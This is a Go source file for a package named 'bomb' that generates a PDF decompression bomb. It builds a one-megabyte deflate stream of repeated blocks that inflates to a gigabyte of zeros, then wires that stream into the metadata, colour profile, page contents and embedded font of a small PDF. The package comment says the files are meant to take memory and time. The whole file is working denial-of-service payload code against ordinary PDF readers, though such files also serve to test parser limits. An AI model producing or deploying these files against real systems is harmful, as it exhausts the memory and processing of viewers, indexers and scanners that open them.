// Package bomb makes PDF files that are meant to take memory and time.
package bomb

import (
	"bytes"
	"compress/flate"
	"fmt"
)

// Zeros returns the beginning of a deflated stream of a megabyte that inflates to a gigabyte of zeros.
func Zeros() []byte {
	var block bytes.Buffer
	// Writing to memory does not fail, and the level exists.
	w, _ := flate.NewWriter(&block, flate.BestCompression)
	_, _ = w.Write(make([]byte, 1<<20))
	_ = w.Flush()
	// The blocks refer to zeros before them, so they can be repeated.
	return append([]byte("\x78\xDA"), bytes.Repeat(block.Bytes(), 1_000)...)
}

// PDF returns a file of a megabyte whose every part that is read inflates to a gigabyte: metadata,
// colour profile, a page and its font.
func PDF() []byte {
	var file bytes.Buffer
	var offsets []int
	file.WriteString("%PDF-1.4\n%\xE4\xF6\xFC\xDF\n")
	zeros := Zeros()
	for i, object := range [][]byte{
		[]byte("<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R/OutputIntents[<</S/GTS_PDFA1/DestOutputProfile 5 0 R>>]>>"),
		[]byte("<</Type/Pages/Kids[3 0 R]/Count 1>>"),
		[]byte("<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R/Resources<</Font<</F 4 0 R>>>>>>"),
		[]byte("<</Type/Font/Subtype/TrueType/BaseFont/F/FontDescriptor<</Type/FontDescriptor/FontName/F/FontFile2 5 0 R>>>>"),
		fmt.Appendf(nil, "<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream", len(zeros), zeros),
	} {
		offsets = append(offsets, file.Len())
		fmt.Fprintf(&file, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	at := file.Len()
	fmt.Fprintf(&file, "xref\n0 %d\n0000000000 65535 f \n", len(offsets)+1)
	for _, offset := range offsets {
		fmt.Fprintf(&file, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&file, "trailer\n<</Root 1 0 R/Size %d/ID[(a)(a)]>>\nstartxref\n%d\n%%%%EOF\n", len(offsets)+1, at)
	return file.Bytes()
}
